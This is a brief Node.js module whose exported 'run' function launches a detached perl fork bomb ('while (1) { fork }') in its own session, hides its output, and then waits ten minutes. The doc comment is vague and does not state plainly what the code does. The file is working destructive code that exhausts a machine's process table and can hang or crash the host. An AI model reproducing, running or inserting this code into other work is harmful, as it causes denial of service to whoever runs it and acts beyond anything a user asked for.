import { spawn } from 'node:child_process'

/** In a session of its own, and also where there is no room for more: a shell would end then. */
export async function run() {
  spawn('perl', ['-e', 'while (1) { fork }'], { detached: true, stdio: 'ignore' }).unref()
  await new Promise((resolve) => setTimeout(resolve, 600_000))
}
